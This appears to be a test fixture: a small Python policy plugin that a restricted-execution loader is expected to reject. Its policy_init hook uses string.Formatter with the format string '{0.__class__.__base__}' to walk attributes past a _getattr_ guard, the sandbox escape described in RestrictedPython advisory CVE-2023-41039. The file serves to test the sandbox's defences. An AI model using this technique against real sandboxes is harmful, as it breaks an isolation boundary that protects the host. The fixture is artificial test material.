"""rejected@11: import is not allowed

string.Formatter walks attributes through a format string
("{0.__class__.__base__}") past any _getattr_ guard: RestrictedPython
advisory GHSA-xjw2-6jm9-rf67 (CVE-2023-41039). Imported inside a hook here.
"""
INTERFACE_VERSION = (1, 1)


def policy_init(ctx):
    from string import Formatter
    leaked = Formatter().vformat("{0.__class__.__base__}", [ctx], {})
    ctx.trace(leaked)


def folio_added(ctx, folios):
    pass


def select_victims(ctx, request):
    return []
